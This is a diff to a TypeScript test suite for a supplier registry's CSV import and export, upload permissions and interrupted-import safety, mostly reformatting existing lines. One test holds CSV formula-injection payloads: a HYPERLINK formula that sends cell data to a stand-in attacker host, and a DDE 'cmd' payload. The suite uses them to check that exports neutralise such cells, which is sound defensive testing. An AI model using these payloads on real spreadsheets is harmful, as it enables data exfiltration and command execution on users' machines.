@@ -46,10 +46,12 @@ describe('supplier registry import and export', () => {
   });
 
   const csv = (rows: string[][]) => Buffer.from(rows.map((r) => csvLine(r)).join(''));
-  const importBuffer = async (content: Buffer, name: string, dryRun = false) => importer.run(await readRegistryFile(content, name), { dryRun });
+  const importBuffer = async (content: Buffer, name: string, dryRun = false) =>
+    importer.run(await readRegistryFile(content, name), { dryRun });
   /** Everything an import could change, per supplier, and the outbox. */
   const snapshot = async () => ({
-    suppliers: await db.query(`SELECT s.tax_code, s.version, s.updated_at, s.name_vi, s.processes, s.zone_code, s.latitude, s.verification_status,
+    suppliers:
+      await db.query(`SELECT s.tax_code, s.version, s.updated_at, s.name_vi, s.processes, s.zone_code, s.latitude, s.verification_status,
         (SELECT json_agg(json_build_object('id', c.id, 'code', c.code, 'until', c.valid_until, 'number', c.certificate_number) ORDER BY c.position) FROM supplier_certifications c WHERE c.supplier_id = s.id) AS certs,
         (SELECT count(*)::int FROM supplier_equipment e WHERE e.supplier_id = s.id) AS equipment
       FROM suppliers s ORDER BY s.tax_code`),
@@ -64,7 +66,13 @@ describe('supplier registry import and export', () => {
       ['Tax code', 'Name (Vietnamese)', 'Processes', 'Industrial zone', 'Certifications', 'Monthly capacity', 'Capacity unit'],
     ];
     for (const [i, header] of headers.entries()) {
-      const result = await importBuffer(csv([header, [CODES[i], `Công ty Nhập Khẩu Mẫu ${i}`, 'Phay CNC; CNC turning', 'Tràng Duệ', 'IATF 16949:2027-05-31', '25000', 'chiếc']]), `h${i}.csv`);
+      const result = await importBuffer(
+        csv([
+          header,
+          [CODES[i], `Công ty Nhập Khẩu Mẫu ${i}`, 'Phay CNC; CNC turning', 'Tràng Duệ', 'IATF 16949:2027-05-31', '25000', 'chiếc'],
+        ]),
+        `h${i}.csv`,
+      );
       expect(result).toMatchObject({ created: 1, rejected: 0 });
     }
     const rows = await db.query(
@@ -76,11 +84,26 @@ describe('supplier registry import and export', () => {
       [CODES.slice(0, 3)],
     );
     expect(rows).toEqual(
-      Array(3).fill({ processes: ['CNC_MILLING', 'CNC_TURNING'], zone_code: 'TRANG_DUE', capacity: 25000, unit: 'PCS', verification_status: 'UNVERIFIED', created_by: null, located: true, certs: ['IATF_16949:2027-05-31'], outbox: 1, members: 0 }),
+      Array(3).fill({
+        processes: ['CNC_MILLING', 'CNC_TURNING'],
+        zone_code: 'TRANG_DUE',
+        capacity: 25000,
+        unit: 'PCS',
+        verification_status: 'UNVERIFIED',
+        created_by: null,
+        located: true,
+        certs: ['IATF_16949:2027-05-31'],
+        outbox: 1,
+        members: 0,
+      }),
     );
     await waitForIndex(t);
-    const found = await t.gql<{ searchSuppliers: { hits: { supplier: { nameVi: string } }[] } }>(SEARCH, { input: { query: 'Nhập Khẩu Mẫu', hitsPerPage: 10 } });
-    expect(found.data!.searchSuppliers.hits.map((h) => h.supplier.nameVi).sort()).toEqual([0, 1, 2].map((i) => `Công ty Nhập Khẩu Mẫu ${i}`));
+    const found = await t.gql<{ searchSuppliers: { hits: { supplier: { nameVi: string } }[] } }>(SEARCH, {
+      input: { query: 'Nhập Khẩu Mẫu', hitsPerPage: 10 },
+    });
+    expect(found.data!.searchSuppliers.hits.map((h) => h.supplier.nameVi).sort()).toEqual(
+      [0, 1, 2].map((i) => `Công ty Nhập Khẩu Mẫu ${i}`),
+    );
   });
 
   it('imports only the good rows of a file with bad ones, and reports each problem by line and column', async () => {
@@ -93,11 +116,21 @@ describe('supplier registry import and export', () => {
       csvLine([CODES[5], 'Công ty Quy Trình Lạ', 'đan len thủ công', '', '']),
       csvLine([CODES[6], 'Công ty Công Suất Âm', 'CNC_MILLING', '-5', 'PCS']),
     ];
-    const broken = Buffer.concat([Buffer.from(`${CODES[7]},C`), Buffer.from([0xf4, 0x6e, 0x67]), Buffer.from(' ty Hỏng Mã Hóa,CNC_MILLING,,\r\n')]);
-    const content = Buffer.concat([Buffer.from(lines.join('')), broken, Buffer.from(csvLine([CODES[8], 'Công ty Tốt Hai', 'Gia công tiện', '', '']))]);
+    const broken = Buffer.concat([
+      Buffer.from(`${CODES[7]},C`),
+      Buffer.from([0xf4, 0x6e, 0x67]),
+      Buffer.from(' ty Hỏng Mã Hóa,CNC_MILLING,,\r\n'),
+    ]);
+    const content = Buffer.concat([
+      Buffer.from(lines.join('')),
+      broken,
+      Buffer.from(csvLine([CODES[8], 'Công ty Tốt Hai', 'Gia công tiện', '', ''])),
+    ]);
     const result = await importBuffer(content, 'bad.csv');
     expect(result).toMatchObject({ total: 6, created: 2, rejected: 4 });
-    const problems = result.rows.filter((r) => r.outcome === 'rejected').map((r) => [r.line, r.problems.map((p) => `${p.field}: ${p.reason}`).join(' | ')]);
+    const problems = result.rows
+      .filter((r) => r.outcome === 'rejected')
+      .map((r) => [r.line, r.problems.map((p) => `${p.field}: ${p.reason}`).join(' | ')]);
     expect(problems).toEqual([
       [3, expect.stringMatching(/^tax_code: the check digit/)],
       [4, 'processes: unknown process "đan len thủ công"'],
@@ -105,9 +138,16 @@ describe('supplier registry import and export', () => {
       [6, expect.stringMatching(/^row: contains bytes that are not valid UTF-8/)],
     ]);
     expect(importReportCsv(result).split('\r\n')).toEqual(
-      expect.arrayContaining(['\uFEFFline,tax_code,outcome,field,reason', `2,${CODES[3]},created,,`, `5,${CODES[6]},rejected,monthly_capacity,must not be less than 0`, `7,${CODES[8]},created,,`]),
+      expect.arrayContaining([
+        '\uFEFFline,tax_code,outcome,field,reason',
+        `2,${CODES[3]},created,,`,
+        `5,${CODES[6]},rejected,monthly_capacity,must not be less than 0`,
+        `7,${CODES[8]},created,,`,
+      ]),
     );
-    const stored = await db.query('SELECT tax_code FROM suppliers WHERE tax_code = ANY($1) ORDER BY tax_code', [[CODES[3], badChecksum, CODES[5], CODES[6], CODES[7], CODES[8]]]);
+    const stored = await db.query('SELECT tax_code FROM suppliers WHERE tax_code = ANY($1) ORDER BY tax_code', [
+      [CODES[3], badChecksum, CODES[5], CODES[6], CODES[7], CODES[8]],
+    ]);
     expect(stored.map((r: { tax_code: string }) => r.tax_code)).toEqual([CODES[3], CODES[8]]);
   });
 
@@ -138,18 +178,41 @@ describe('supplier registry import and export', () => {
     // A supplier made through the API, with what the format does not carry (equipment, certificate details).
     const created = await t.gql(
       `mutation($input: CreateSupplierInput!) { createSupplier(input: $input) { id } }`,
-      { input: { taxCode: CODES[20], nameVi: 'Công ty API Đầy Đủ', descriptionVi: 'Dòng một\nDòng hai, có "ngoặc"', zoneCode: 'NOMURA_HP', processes: ['CNC_MILLING'],
-        certifications: [{ code: 'ISO_9001', validFrom: '2025-01-10', validUntil: '2028-01-09', certificateNumber: 'Q-77', issuingBody: 'QUACERT' }],
-        equipment: [{ kind: 'CNC_MACHINING_CENTRE', maker: 'Brother', axes: 5, count: 4 }], monthlyCapacity: { value: 0.5, unit: 'TONNES' }, bestToleranceMm: 0.005,
-        contact: { name: 'Chị Lan', phone: '+84 225 3812 345', email: 'lan@example.vn' }, exportExperience: true, exportMarkets: ['JP'], languages: ['vi', 'ja'] } },
+      {
+        input: {
+          taxCode: CODES[20],
+          nameVi: 'Công ty API Đầy Đủ',
+          descriptionVi: 'Dòng một\nDòng hai, có "ngoặc"',
+          zoneCode: 'NOMURA_HP',
+          processes: ['CNC_MILLING'],
+          certifications: [
+            { code: 'ISO_9001', validFrom: '2025-01-10', validUntil: '2028-01-09', certificateNumber: 'Q-77', issuingBody: 'QUACERT' },
+          ],
+          equipment: [{ kind: 'CNC_MACHINING_CENTRE', maker: 'Brother', axes: 5, count: 4 }],
+          monthlyCapacity: { value: 0.5, unit: 'TONNES' },
+          bestToleranceMm: 0.005,
+          contact: { name: 'Chị Lan', phone: '+84 225 3812 345', email: 'lan@example.vn' },
+          exportExperience: true,
+          exportMarkets: ['JP'],
+          languages: ['vi', 'ja'],
+        },
+      },
       admin.token,
     );
     expect(created.errors).toBeUndefined();
     // Cells a spreadsheet would run as formulas: neutralised in the CSV, restored by the import.
     const formulas = await t.gql(
       `mutation($input: CreateSupplierInput!) { createSupplier(input: $input) { id } }`,
-      { input: { taxCode: CODES[21], nameVi: '=HYPERLINK("http://evil.example/?x="&A1,"Mở")', tradeNameEn: "-5 Stamping ('minus five')", descriptionVi: "'=already quoted\nand more", processes: ['STAMPING'],
-        contact: { name: '@SUM(1+1)*cmd|" /C calc"!A0', phone: '+84 225 3812 346' } } },
+      {
+        input: {
+          taxCode: CODES[21],
+          nameVi: '=HYPERLINK("http://evil.example/?x="&A1,"Mở")',
+          tradeNameEn: "-5 Stamping ('minus five')",
+          descriptionVi: "'=already quoted\nand more",
+          processes: ['STAMPING'],
+          contact: { name: '@SUM(1+1)*cmd|" /C calc"!A0', phone: '+84 225 3812 346' },
+        },
+      },
       admin.token,
     );
     expect(formulas.errors).toBeUndefined();
@@ -159,11 +222,26 @@ describe('supplier registry import and export', () => {
       const path = join(dir, name);
       expect(await exportRegistry(db, path)).toBe(before.suppliers.length);
       const result = await importer.run(await readRegistryFile(await readFile(path), path));
-      expect({ name, ...result, rows: undefined }).toMatchObject({ name, total: before.suppliers.length, unchanged: before.suppliers.length, created: 0, updated: 0, rejected: 0, unknownHeaders: [] });
+      expect({ name, ...result, rows: undefined }).toMatchObject({
+        name,
+        total: before.suppliers.length,
+        unchanged: before.suppliers.length,
+        created: 0,
+        updated: 0,
+        rejected: 0,
+        unknownHeaders: [],
+      });
       expect(await snapshot()).toEqual(before);
       if (name === 'registry.csv') {
         const text = readFileSync(path, 'utf8');
-        for (const cell of [`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Mở"")",`, `,'-5 Stamping ('minus five'),`, `,"'@SUM(1+1)*cmd|"" /C calc""!A0",`, `,'+84 225 3812 346,`, `,"''=already quoted\nand more",`]) expect(text).toContain(cell);
+        for (const cell of [
+          `,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Mở"")",`,
+          `,'-5 Stamping ('minus five'),`,
+          `,"'@SUM(1+1)*cmd|"" /C calc""!A0",`,
+          `,'+84 225 3812 346,`,
+          `,"''=already quoted\nand more",`,
+        ])
+          expect(text).toContain(cell);
       }
     }
     // Vietnamese headers round-trip too; an edit in the export updates just that supplier and keeps its equipment and certificate details.
@@ -173,7 +251,12 @@ describe('supplier registry import and export', () => {
     const result = await importBuffer(Buffer.from(edited), 'edited.csv');
     expect(result).toMatchObject({ updated: 1, unchanged: before.suppliers.length - 1 });
     const api = (await snapshot()).suppliers.find((s: { tax_code: string }) => s.tax_code === CODES[20]);
-    expect(api).toMatchObject({ name_vi: 'Công ty API Đã Sửa', version: 2, equipment: 1, certs: [expect.objectContaining({ code: 'ISO_9001', number: 'Q-77' })] });
+    expect(api).toMatchObject({
+      name_vi: 'Công ty API Đã Sửa',
+      version: 2,
+      equipment: 1,
+      certs: [expect.objectContaining({ code: 'ISO_9001', number: 'Q-77' })],
+    });
   });
 
   it('offers the import as an ADMIN-only GraphQL upload, with a dry run', async () => {
@@ -191,13 +274,25 @@ describe('supplier registry import and export', () => {
     const member = await registerUser(t, 'registry');
     const forbidden = await upload(content, member.token);
     expect(forbidden.body.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
-    const csrf = await t.http().post('/graphql').set('authorization', `Bearer ${admin.token}`)
-      .field('operations', JSON.stringify({ query: MUTATION, variables: { file: null } })).field('map', JSON.stringify({ 0: ['variables.file'] })).attach('0', Buffer.from(content), 'x.csv');
+    const csrf = await t
+      .http()
+      .post('/graphql')
+      .set('authorization', `Bearer ${admin.token}`)
+      .field('operations', JSON.stringify({ query: MUTATION, variables: { file: null } }))
+      .field('map', JSON.stringify({ 0: ['variables.file'] }))
+      .attach('0', Buffer.from(content), 'x.csv');
     expect(csrf.status).toBe(400); // Apollo's CSRF prevention: uploads need the apollo-require-preflight header
 
     const dry = await upload(content, admin.token, true);
     expect(dry.body.data.importSupplierRegistry).toEqual({
-      dryRun: true, total: 2, created: 1, updated: 0, unchanged: 0, rejected: 1, unknownColumns: ['Ghi chú'], problemsTruncated: false,
+      dryRun: true,
+      total: 2,
+      created: 1,
+      updated: 0,
+      unchanged: 0,
+      rejected: 1,
+      unknownColumns: ['Ghi chú'],
+      problemsTruncated: false,
       problems: [{ line: 3, taxCode: CODES[31], field: 'processes', reason: expect.stringMatching(/unknown process "không có"/) }],
     });
     expect(await db.query('SELECT 1 FROM suppliers WHERE tax_code = $1', [CODES[30]])).toEqual([]);
@@ -206,7 +301,10 @@ describe('supplier registry import and export', () => {
     const [row] = await db.query('SELECT created_by FROM suppliers WHERE tax_code = $1', [CODES[30]]);
     expect(row.created_by).toBe(admin.userId);
     const unusable = await upload('just some text', admin.token, false, 'notes.txt');
-    expect(unusable.body.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', fieldErrors: [{ field: 'file', reason: expect.stringMatching(/tax_code/) }] });
+    expect(unusable.body.errors?.[0]?.extensions).toMatchObject({
+      code: 'BAD_USER_INPUT',
+      fieldErrors: [{ field: 'file', reason: expect.stringMatching(/tax_code/) }],
+    });
   });
 
   it('refuses an upload without an ADMIN token before reading its body, and closes the connection', async () => {
@@ -215,11 +313,17 @@ describe('supplier registry import and export', () => {
     const attempt = (url: string, authorization?: string, operations = JSON.stringify({ query: MUTATION, variables: { file: null } })) =>
       new Promise<{ status: number; body: string; sentBytes: number }>((resolve, reject) => {
         const boundary = 'x-boundary-1234';
-        const head = `--${boundary}\r\nContent-Disposition: form-data; name="operations"\r\n\r\n${operations}\r\n` +
+        const head =
+          `--${boundary}\r\nContent-Disposition: form-data; name="operations"\r\n\r\n${operations}\r\n` +
           `--${boundary}\r\nContent-Disposition: form-data; name="map"\r\n\r\n{"0":["variables.file"]}\r\n--${boundary}\r\nContent-Disposition: form-data; name="0"; filename="big.csv"\r\n\r\n`;
         const req = httpRequest(url, {
           method: 'POST',
-          headers: { 'content-type': `multipart/form-data; boundary=${boundary}`, 'content-length': String(15 * 1024 * 1024), 'apollo-require-preflight': 'true', ...(authorization ? { authorization } : {}) },
+          headers: {
+            'content-type': `multipart/form-data; boundary=${boundary}`,
+            'content-length': String(15 * 1024 * 1024),
+            'apollo-require-preflight': 'true',
+            ...(authorization ? { authorization } : {}),
+          },
         });
         let sentBytes = 0;
         const chunk = Buffer.alloc(16 * 1024, 'a');
@@ -241,7 +345,11 @@ describe('supplier registry import and export', () => {
         // Without the early refusal the connection stays open, waiting for the 15 MB that never come.
         setTimeout(() => {
           req.destroy();
-          reject(new Error(`the connection stayed open (answered: ${JSON.stringify(answer)}) while the body was incomplete (${sentBytes} bytes sent)`));
+          reject(
+            new Error(
+              `the connection stayed open (answered: ${JSON.stringify(answer)}) while the body was incomplete (${sentBytes} bytes sent)`,
+            ),
+          );
         }, 20000).unref();
       });
     const member = await registerUser(t, 'bigupload');
@@ -249,30 +357,93 @@ describe('supplier registry import and export', () => {
     if (!server.listening) await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
     const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/graphql`;
     // The first case holds a body that cannot be parsed: refused as UNAUTHENTICATED, not as a bad body, because it is never read.
-    for (const [authorization, code, operations] of [[undefined, 'UNAUTHENTICATED', '{ not json'], [undefined, 'UNAUTHENTICATED'], ['Bearer not-a-token', 'UNAUTHENTICATED'], [`Bearer ${member.token}`, 'FORBIDDEN']] as const) {
+    for (const [authorization, code, operations] of [
+      [undefined, 'UNAUTHENTICATED', '{ not json'],
+      [undefined, 'UNAUTHENTICATED'],
+      ['Bearer not-a-token', 'UNAUTHENTICATED'],
+      [`Bearer ${member.token}`, 'FORBIDDEN'],
+    ] as const) {
       const answer = await attempt(url, authorization, operations);
       expect(answer.sentBytes).toBeLessThan(100 * 1024);
-      expect({ status: answer.status, body: answer.body }).toEqual({ status: code === 'UNAUTHENTICATED' ? 401 : 403, body: expect.stringContaining(`"code":"${code}"`) });
+      expect({ status: answer.status, body: answer.body }).toEqual({
+        status: code === 'UNAUTHENTICATED' ? 401 : 403,
+        body: expect.stringContaining(`"code":"${code}"`),
+      });
     }
   });
 
   it('leaves every row of a file imported whole or absent when the import process is killed midway', async () => {
     if (!existsSync(IMPORT_CLI)) throw new Error('dist/ is missing: `npm test` builds it before running jest');
     const taxonomy = t.app.get(Taxonomy);
-    const inputs = generateSuppliers({ count: 3000, seed: 9, zones: zonePoints(taxonomy), today: todayInVietnam(), taxPrefix: '08', taxSequenceStart: 5000000 });
-    const header = ['tax_code', 'name_vi', 'processes', 'materials', 'zone', 'employees', 'certifications', 'monthly_capacity', 'capacity_unit', 'contact_email'];
+    const inputs = generateSuppliers({
+      count: 3000,
+      seed: 9,
+      zones: zonePoints(taxonomy),
+      today: todayInVietnam(),
+      taxPrefix: '08',
+      taxSequenceStart: 5000000,
+    });
+    const header = [
+      'tax_code',
+      'name_vi',
+      'processes',
+      'materials',
+      'zone',
+      'employees',
+      'certifications',
+      'monthly_capacity',
+      'capacity_unit',
+      'contact_email',
+    ];
     const expected = inputs.map((s) => ({
-      tax_code: s.taxCode, name_vi: s.nameVi, processes: [...new Set(s.processes)], materials: [...new Set(s.materials)], zone_code: s.zoneCode!, employees: s.employees!,
-      certs: (s.certifications ?? []).map((c) => `${c.code}:${c.validFrom ?? ''}/${c.validUntil ?? ''}`), capacity: s.monthlyCapacity!.value, unit: s.monthlyCapacity!.unit, contact_email: s.contact!.email!, outbox: 1,
+      tax_code: s.taxCode,
+      name_vi: s.nameVi,
+      processes: [...new Set(s.processes)],
+      materials: [...new Set(s.materials)],
+      zone_code: s.zoneCode!,
+      employees: s.employees!,
+      certs: (s.certifications ?? []).map((c) => `${c.code}:${c.validFrom ?? ''}/${c.validUntil ?? ''}`),
+      capacity: s.monthlyCapacity!.value,
+      unit: s.monthlyCapacity!.unit,
+      contact_email: s.contact!.email!,
+      outbox: 1,
     }));
     const file = join(dir, 'big.csv');
-    writeFileSync(file, [header, ...expected.map((e) => [e.tax_code, e.name_vi, e.processes.join('; '), e.materials.join('; '), e.zone_code, String(e.employees), e.certs.join('; '), String(e.capacity), e.unit, e.contact_email])].map((r) => csvLine(r)).join(''));
+    writeFileSync(
+      file,
+      [
+        header,
+        ...expected.map((e) => [
+          e.tax_code,
+          e.name_vi,
+          e.processes.join('; '),
+          e.materials.join('; '),
+          e.zone_code,
+          String(e.employees),
+          e.certs.join('; '),
+          String(e.capacity),
+          e.unit,
+          e.contact_email,
+        ]),
+      ]
+        .map((r) => csvLine(r))
+        .join(''),
+    );
     const dataDir = mkdtempSync(join(tmpdir(), 'hp-import-cli-'));
     chmodSync(dataDir, 0o755);
     const run = (onStderr?: (text: string, kill: () => void) => void) =>
       new Promise<{ code: number | null; signal: NodeJS.Signals | null; output: string }>((resolve) => {
         const child = spawn(process.execPath, [IMPORT_CLI, file, '--batch', '100', '--report', join(dir, 'big.report.csv')], {
-          env: { PATH: process.env.PATH!, HOME: process.env.HOME ?? '/tmp', DATA_DIR: dataDir, DATABASE_URL: t.databaseUrl, MEILI_URL: process.env.TEST_MEILI_URL!, MEILI_MASTER_KEY: process.env.TEST_MEILI_MASTER_KEY!, MEILI_INDEX_PREFIX: t.indexPrefix, LOG_LEVEL: 'error' },
+          env: {
+            PATH: process.env.PATH!,
+            HOME: process.env.HOME ?? '/tmp',
+            DATA_DIR: dataDir,
+            DATABASE_URL: t.databaseUrl,
+            MEILI_URL: process.env.TEST_MEILI_URL!,
+            MEILI_MASTER_KEY: process.env.TEST_MEILI_MASTER_KEY!,
+            MEILI_INDEX_PREFIX: t.indexPrefix,
+            LOG_LEVEL: 'error',
+          },
           stdio: ['ignore', 'pipe', 'pipe'],
         });
         let output = '';
@@ -301,7 +472,12 @@ describe('supplier registry import and export', () => {
       expect(partial.filter((row) => JSON.stringify(row) !== JSON.stringify(byTaxCode.get(row.tax_code)))).toEqual([]);
 
       const finished = await run();
-      expect({ code: finished.code, output: finished.output }).toMatchObject({ code: 0, output: expect.stringMatching(new RegExp(`Created ${expected.length - partial.length}, updated 0, unchanged ${partial.length}, rejected 0`)) });
+      expect({ code: finished.code, output: finished.output }).toMatchObject({
+        code: 0,
+        output: expect.stringMatching(
+          new RegExp(`Created ${expected.length - partial.length}, updated 0, unchanged ${partial.length}, rejected 0`),
+        ),
+      });
       expect(await stored()).toEqual([...expected].sort((a, b) => a.tax_code.localeCompare(b.tax_code)));
     } finally {
       rmSync(dataDir, { recursive: true, force: true });
